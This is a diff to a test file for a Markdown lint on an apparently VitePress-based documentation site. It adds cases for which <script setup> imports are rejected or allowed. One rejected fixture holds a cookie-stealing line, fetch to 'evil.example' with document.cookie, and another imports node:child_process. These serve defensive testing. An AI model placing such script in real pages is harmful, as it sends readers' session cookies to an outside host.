@@ -15,7 +15,8 @@ const md = (await createMarkdownRenderer('docs', {
 
 const options = {
   components: ['ContactList', 'ReportRoutes'],
-  pagesFolder: 'docs'
+  pagesFolder: 'docs',
+  dataLoaderFolder: '.vitepress'
 }
 
 /** The lint's messages for `source`, as `line: message`. */
@@ -25,7 +26,8 @@ function lint(source: string, file = 'docs/page.md'): string[] {
   )
 }
 
-const script = 'it runs code in every reader’s browser'
+const script =
+  'it runs code in every reader’s browser (a <script setup> may only import data loaders from .vitepress/)'
 
 describe('content that fails the lint, with its message', () => {
   test.each([
@@ -38,6 +40,31 @@ describe('content that fails the lint, with its message', () => {
       'a <script setup> block, which VitePress hoists',
       'Text\n\n<script setup>\nconst x = 1\n</script>\n',
       [`3: <script> tag: not allowed in Markdown, because ${script}`]
+    ],
+    [
+      'a <script setup> that imports a data loader and runs code',
+      "<script setup>\nimport { data as d } from '../.vitepress/slack/welcome-message.data'\nfetch('https://evil.example/?' + document.cookie)\n</script>\n",
+      [`1: <script> tag: not allowed in Markdown, because ${script}`]
+    ],
+    [
+      'a <script setup> that imports a Node module',
+      "<script setup>\nimport { data as d } from 'node:child_process'\n</script>\n",
+      [`1: <script> tag: not allowed in Markdown, because ${script}`]
+    ],
+    [
+      'a <script setup> that imports a module that is not a data loader',
+      "<script setup>\nimport { data as d } from '../.vitepress/config.mts'\n</script>\n",
+      [`1: <script> tag: not allowed in Markdown, because ${script}`]
+    ],
+    [
+      'a <script setup> that imports a data loader outside .vitepress/',
+      "<script setup>\nimport { data as d } from './evil.data'\n</script>\n",
+      [`1: <script> tag: not allowed in Markdown, because ${script}`]
+    ],
+    [
+      'a <script setup src>',
+      '<script setup src="./evil.ts">\nimport { data as d } from \'../.vitepress/a.data\'\n</script>\n',
+      [`1: <script> tag: not allowed in Markdown, because ${script}`]
     ],
     [
       'an upper-case <SCRIPT>',
@@ -356,6 +383,10 @@ describe('content that passes', () => {
     ['an @include inside docs/', '<!--@include: ./parts/intro.md-->\n'],
     ['a snippet import inside docs/', '<<< @/snippets/example.ts\n'],
     [
+      'a <script setup> that only imports data loaders from .vitepress/',
+      '<script setup lang="ts">\nimport { data as welcome } from \'../.vitepress/slack/welcome-message.data\'\nimport { data as rules } from \'../.vitepress/rules/rules.data.ts\'\n</script>\n\n# Welcome\n\n<ContactList :text="welcome.mrkdwn" />\n'
+    ],
+    [
       'frontmatter with plain strings',
       '---\ntitle: Rules\nhero:\n  tagline: Ask, share & learn\n  actions:\n    - link: /community\n---\n'
     ]
@@ -368,7 +399,8 @@ describe('the allowlist the theme registers', () => {
   const withAllowlist = (source: string) =>
     lintMarkdown(md, source, 'docs/page.md', {
       components: markdownComponentNames,
-      pagesFolder: 'docs'
+      pagesFolder: 'docs',
+      dataLoaderFolder: '.vitepress'
     }).map(({ message }) => message)
 
   test('allows each registered component', () => {
